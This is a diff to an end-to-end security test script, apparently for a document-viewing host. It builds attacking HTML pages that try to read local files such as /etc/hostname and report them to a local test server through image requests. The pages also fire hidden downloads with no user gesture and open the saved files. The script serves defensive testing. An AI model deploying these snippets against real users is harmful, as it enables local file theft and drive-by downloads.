@@ -20,34 +20,9 @@ printf '#!/bin/sh\nprintf "%%s\\n" "$*" >>"%s"\n' "$T/opened.log" >"$T/bin/xdg-o
 chmod +x "$T/bin/xdg-open"
 export PATH="$T/bin:$PATH"
 
-# The web server: static files of $T/remote, and /report?TEXT, which the
-# attacking pages call (as an image, which needs no permission) to tell what
-# they reached; each report is one line of $T/reports.
-python3 - "$T/remote" "$T/port" "$T/reports" <<'PY' >"$T/server.log" 2>&1 &
-import http.server, os, sys, urllib.parse
-os.chdir(sys.argv[1])
-reports = sys.argv[3]
-class Handler(http.server.SimpleHTTPRequestHandler):
-    def log_message(self, *args):
-        pass
-    def do_GET(self):
-        if self.path.startswith("/report?"):
-            with open(reports, "a") as f:
-                f.write(urllib.parse.unquote(self.path[8:]) + "\n")
-            self.send_response(204)
-            self.end_headers()
-            return
-        super().do_GET()
-server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-with open(sys.argv[2] + ".part", "w") as f:
-    f.write(str(server.server_address[1]))
-os.rename(sys.argv[2] + ".part", sys.argv[2])
-server.serve_forever()
-PY
-STARTED_PIDS+=("$!")
-for _ in $(seq 1 100); do [ -s "$T/port" ] && break; sleep 0.1; done
-[ -s "$T/port" ] || { echo "the web server did not start: $(cat "$T/server.log")"; exit 1; }
-REMOTE="http://127.0.0.1:$(cat "$T/port")"
+# The web server. The attacking pages report what they reached through
+# /report?TEXT (as an image, which needs no permission), one line of $T/reports.
+start_web_server "$T/remote" "$T/reports"
 touch "$T/reports"
 
 # What an attacking document does once it runs with the host: reports it,
@@ -64,6 +39,12 @@ JS
 printf '<!doctype html><title>E2E disk</title><script>\n%s</script>\n' "$(take_host disk)" >"$T/disk.html"
 printf '<!doctype html><title>E2E chain</title><script>\n%s</script>\n' "$(take_host chain)" >"$T/remote/chain.html"
 cp "$T/remote/chain.html" "$T/remote/drop.html"
+
+# silent_download NAME: a script's click on a hidden download link, no user's gesture.
+silent_download() {
+    printf 'const a = document.createElement("a"); a.href = "/%s"; a.download = "%s";' "$1" "$1"
+    printf ' document.body.appendChild(a); a.click();'
+}
 
 # Reading local files and sending them away, as a document of any origin may try.
 STEAL='for (const f of ["file:///etc/hostname", "file:///beside/remote.txt", "file://'"$T"'/disk.html"])
@@ -83,11 +64,7 @@ cat >"$T/remote/ad.html" <<HTML
   const WHO = "ad";
   $ASK
   $STEAL
-  const a = document.createElement("a");
-  a.href = "/chain.html";
-  a.download = "chain.html";
-  document.body.appendChild(a);
-  a.click();
+  $(silent_download chain.html)
   setTimeout(() => {
     for (const f of ["file://$HOME/chain.html", "file://$HOME/Downloads/chain.html", "file://$T/disk.html"])
       window.open(f);
@@ -109,11 +86,7 @@ cat >"$T/remote/remote.html" <<HTML
   $ASK
   tell("remote-qvx=" + typeof window.qvx);
   $STEAL
-  const a = document.createElement("a");
-  a.href = "/drop.html";
-  a.download = "drop.html";
-  document.body.appendChild(a);
-  a.click();
+  $(silent_download drop.html)
   setTimeout(() => tell("remote-popup=" + String(window.open($POPUP_JSON))), 1500);
 </script>
 <a href="/user.txt" download="user.txt" style="display: block; width: 100vw; height: 100vh">download</a>
